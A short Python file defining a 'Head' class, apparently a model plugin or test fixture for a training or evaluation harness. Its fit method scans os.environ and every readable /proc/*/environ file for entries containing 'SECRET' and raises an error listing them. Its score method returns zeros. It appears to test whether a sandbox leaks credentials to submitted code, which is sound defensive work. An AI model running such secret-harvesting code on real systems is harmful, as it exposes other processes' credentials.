import os

import numpy as np


class Head:
    """Reads os.environ and every /proc/*/environ it can; reports what it found"""

    def fit(self, train, *, seed):
        found = [k for k in os.environ if "SECRET" in k]
        for pid in os.listdir("/proc"):
            if pid.isdigit():
                try:
                    data = open(f"/proc/{pid}/environ", "rb").read()
                except OSError:
                    continue
                found += [kv.decode(errors="replace") for kv in data.split(b"\0") if b"SECRET" in kv]
        raise RuntimeError(f"found {found}")

    def score(self, batch):
        return np.zeros(len(batch))
